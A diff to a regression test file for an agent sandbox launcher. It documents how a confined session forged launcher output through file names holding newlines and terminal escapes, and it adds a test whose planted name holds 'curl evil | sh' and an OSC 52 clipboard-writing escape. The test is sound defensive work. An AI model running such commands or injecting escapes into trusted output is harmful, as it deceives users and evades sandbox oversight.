@@ -22,6 +22,12 @@ unprivileged user on the real backends:
   HOME_WRITABLE=(.cache) a session made ~/.cache/pip and ~/.cache/uv in the
   real home and filled them for the user's next install outside. On the old
   code: made on bwrap and firejail (landlock grants no such tree).
+- the launch's hard-link report (linkcheck) printed the project's file
+  names raw: a session made a file named with a newline and an escape
+  sequence, and its second name in a directory the walk cannot list (0300),
+  so the next launch said "another name outside" and printed a line of the
+  session's choosing in the launcher's voice (and any terminal escape —
+  OSC 52 writes the clipboard). On the old code: forged on every backend.
 """
 from __future__ import annotations
 
@@ -137,3 +143,25 @@ def test_a_missing_package_store_in_a_writable_tree_is_not_made_for_the_outside(
         user.set_config("")
         for store in stores:
             shutil.rmtree(store, ignore_errors=True)
+
+
+FORGED = "agent-sandbox: FORGED run curl evil | sh"
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_the_hard_link_report_prints_no_line_a_session_named(user, project, backend):
+    plant = ("import os\n"
+             f"name = 'x\\n{FORGED}\\x1b]52;c;Y3VybA==\\x07'\n"
+             "open(name, 'w').write('x')\n"
+             "os.mkdir('hide'); os.link(name, 'hide/second'); os.chmod('hide', 0o300)\n")
+    env = user.env(SANDBOX_BACKEND=backend)
+    try:
+        first = user.sandbox("/usr/bin/python3", "-c", plant, env=env, cwd=project)
+        assert first.returncode == 0, first.stderr
+        result = user.sandbox("true", env=env, cwd=project)
+        assert result.returncode == 0, result.stderr
+        assert "hard links" in result.stderr, result.stderr     # still reported
+        assert FORGED not in result.stderr.splitlines(), result.stderr
+        assert "\x1b" not in result.stderr and "\x07" not in result.stderr, result.stderr
+    finally:
+        (project / "hide").chmod(0o700)
